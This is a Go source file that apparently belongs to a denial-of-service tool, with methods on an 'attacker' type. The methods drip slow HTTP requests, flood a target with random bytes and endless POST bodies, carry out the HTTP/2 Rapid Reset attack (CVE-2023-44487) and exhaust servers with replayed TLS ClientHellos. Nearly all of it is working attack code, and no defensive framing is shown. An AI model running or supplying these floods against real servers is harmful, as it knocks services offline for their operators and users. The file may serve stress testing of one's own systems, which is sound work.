package main

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"slices"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// listen waits until the server hangs up.
func (a *attacker) listen(conn net.Conn) { _, _ = io.Copy(io.Discard, conn) }

// drip sends the beginning, and then a little each second.
func (a *attacker) drip(conn net.Conn, begin, each string) {
	t := a.secure(conn, "http/1.1")
	if t == nil {
		return
	}
	for text := begin; time.Now().Before(a.until); text = each {
		if _, err := io.WriteString(t, text); err != nil {
			return
		}
		time.Sleep(time.Second)
	}
}

// garbage sends random bytes without any TLS.
func (a *attacker) garbage(conn net.Conn) {
	for {
		if _, err := conn.Write(a.random); err != nil {
			return
		}
	}
}

// forms sends forms of garbage, and takes what is answered.
func (a *attacker) forms(conn net.Conn) {
	t := a.secure(conn, "http/1.1")
	if t == nil {
		return
	}
	text := fmt.Appendf(nil, "POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s",
		a.target.Path, 2048, a.random[:2048])
	go a.listen(t)
	for {
		if _, err := t.Write(text); err != nil {
			return
		}
	}
}

// resets opens streams of HTTP/2 and resets each at once (CVE-2023-44487).
func (a *attacker) resets(conn net.Conn) {
	t := a.secure(conn, "h2")
	if t == nil {
		return
	}
	go a.listen(t)
	var block, out bytes.Buffer
	headers := hpack.NewEncoder(&block)
	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", "x"}, {":path", a.target.Path}, {"content-type", "application/x-www-form-urlencoded"}} {
		if err := headers.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: true}); err != nil {
			return
		}
	}
	out.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(&out, nil)
	if framer.WriteSettings() != nil {
		return
	}
	for stream := uint32(1); stream < 1<<30; stream += 2 {
		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true}) != nil ||
			framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
			return
		}
		if stream%64 == 1 {
			if _, err := t.Write(out.Bytes()); err != nil {
				return
			}
			out.Reset()
		}
	}
}

// hellos lets the server do its part of a handshake, and does nothing itself.
func (a *attacker) hellos(conn net.Conn) {
	if _, err := conn.Write(a.hello); err != nil {
		return
	}
	_, _ = conn.Read(make([]byte, 1))
}

// clientHello is one, recorded.
func clientHello() ([]byte, error) {
	ours, theirs := net.Pipe()
	defer ours.Close()   //nolint:errcheck // a pipe
	defer theirs.Close() //nolint:errcheck // a pipe
	go func() {
		_ = tls.Client(theirs, &tls.Config{InsecureSkipVerify: true}).Handshake() //nolint:noctx // ends with the pipe
	}()
	head := make([]byte, 5)
	if _, err := io.ReadFull(ours, head); err != nil {
		return nil, err
	}
	body := make([]byte, int(head[3])<<8|int(head[4]))
	if _, err := io.ReadFull(ours, body); err != nil {
		return nil, err
	}
	if head[0] != 22 {
		return nil, errors.New("this is no ClientHello")
	}
	return slices.Concat(head, body), nil
}
